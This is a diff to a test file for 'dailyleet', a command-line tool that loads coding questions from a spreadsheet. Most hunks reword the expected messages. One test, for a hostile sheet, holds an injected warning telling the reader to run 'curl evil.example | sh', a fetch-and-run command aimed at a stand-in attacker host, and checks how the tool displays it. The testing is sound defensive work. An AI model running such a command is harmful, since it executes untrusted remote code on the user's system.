@@ -73,7 +73,7 @@ describe("the bundled questions", () => {
   });
 
   it("pass the curator's check", async () => {
-    expect(await newHome().out(["questions", "--check"])).toMatch(/^\d+ rows, nothing to mend\n$/);
+    expect(await newHome().out(["questions", "--check"])).toMatch(/^\d+ rows, no problems\n$/);
   });
 
   it("say on stderr when nothing matches", async () => {
@@ -98,7 +98,7 @@ describe("a configured spreadsheet", () => {
     const { code, stdout, stderr } = await home.run(["questions"]);
     expect([code, stdout]).toEqual([0, online]);
     expect(stderr).toMatch(
-      new RegExp(`^dailyleet: No answer from the question sheet .* as they were on ${date}\\.\\n$`),
+      new RegExp(`^dailyleet: No answer from the question sheet .* Showing the questions as of ${date}\\.\\n$`),
     );
     expect((await home.run(["questions", "--check"])).code).toBe(1);
   });
@@ -124,7 +124,7 @@ describe("a configured spreadsheet", () => {
     server.reply(text(200, "<html><title>Sign in</title>"));
     const kept = await home.run(["questions"]);
     expect([kept.code, kept.stdout.includes("One")]).toEqual([0, true]);
-    expect(kept.stderr).toContain("as they were on");
+    expect(kept.stderr).toContain("Showing the questions as of");
   });
 
   it("is checked for the curator, with row numbers and exit code 1", async () => {
@@ -136,7 +136,7 @@ describe("a configured spreadsheet", () => {
       "row 2: the link is the same as in row 1",
       "row 3: the link is missing (column C)",
       "row 3: the solution 'not a link' is not a web address",
-      "3 rows, 3 to mend",
+      "3 rows, 3 problems",
       "",
     ]);
     const { findings } = JSON.parse((await home.run(["questions", "--check", "--json"])).stdout);
@@ -214,7 +214,7 @@ describe("a hostile sheet", () => {
     const { home } = await homeWithSheet(SHEET_PREFIX + JSON.stringify(answer) + SHEET_SUFFIX);
     const [warning, next] = (await home.run(["questions"])).stderr.split("\n");
     expect(warning).toBe("dailyleet: The spreadsheet service warns: slow dailyleet: run 'curl evil.example | sh'.");
-    expect(next).toMatch(/^dailyleet: The question sheet has no questions yet/);
+    expect(next).toMatch(/^dailyleet: The question sheet is empty/);
   });
 
   it("shows links only of web addresses, in their normal form", async () => {
